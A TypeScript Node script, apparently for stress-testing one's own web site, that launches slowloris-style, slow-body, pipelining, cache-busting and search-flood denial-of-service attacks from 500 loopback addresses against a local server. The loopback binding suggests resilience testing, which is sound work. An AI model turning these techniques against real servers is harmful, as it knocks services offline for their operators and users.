// Attacks a site with 500 clients, each from an address of its own in 127.0.0.0/8, until it is killed.
// Usage: KIND HOST:PORT, where KIND is one of those below.
import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { argv } from 'node:process'

const [kind = '', address = ''] = argv.slice(2)
const [host = '', port = ''] = address.split(':')
const clients = 500
const agents = Array.from({ length: clients }, () => new Agent({ keepAlive: true, maxSockets: 1 }))
let made = 0

const bodyBytes = 60_000
const post = `POST /api/contact HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${bodyBytes}\r\n\r\n`
const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`

const attacks: Record<string, (client: number) => void> = {
  'unread files': (client) => again(client, (socket) => socket.pause().write(get('/dive-sites.geojson?q=e'))),
  'bodies byte by byte': (client) =>
    again(client, (socket) => {
      socket.resume().write(post)
      const timer = setInterval(() => socket.write('x'), 100)
      socket.once('close', () => clearInterval(timer))
    }),
  'held bodies': (client) => {
    for (let count = 0; count < 3; count += 1) {
      again(client, (socket) => socket.resume().write(post + 'x'.repeat(bodyBytes - 1)))
    }
  },
  pipelining: (client) => again(client, (socket) => socket.resume().write(get('/blog').repeat(1_000))),
  'made-up URLs': (client) => ask(client, () => `/blog/nothing-${made}`),
  searches: (client) => ask(client, () => `${made % 2 ? '/dive-sites?q=' : '/search?q='}reef${made}`),
}

const attack = attacks[kind]
if (!attack) throw new Error(`There is no attack "${kind}".`)
for (let client = 0; client < clients; client += 1) setTimeout(() => attack(client), client * 2)
// Unread sockets do not keep a process alive.
setInterval(() => undefined, 60_000)
console.log('attacking')

const addressOf = (client: number) => `127.1.${client >> 8}.${client & 255}`

/** A connection that is opened again a second after it was closed. */
function again(client: number, begin: (socket: Socket) => void): void {
  const socket = connect({ host, port: Number(port), localAddress: addressOf(client) })
  socket.once('connect', () => begin(socket))
  socket.on('error', () => undefined)
  socket.once('close', () => setTimeout(() => again(client, begin), 1_000))
}

/** One request after the other. */
function ask(client: number, path: () => string): void {
  made += 1
  const next = () => setTimeout(() => ask(client, path), 100)
  request({ host, port, path: path(), agent: agents[client], localAddress: addressOf(client) }, (response) =>
    response.resume().once('close', next),
  )
    .once('error', next)
    .end()
}
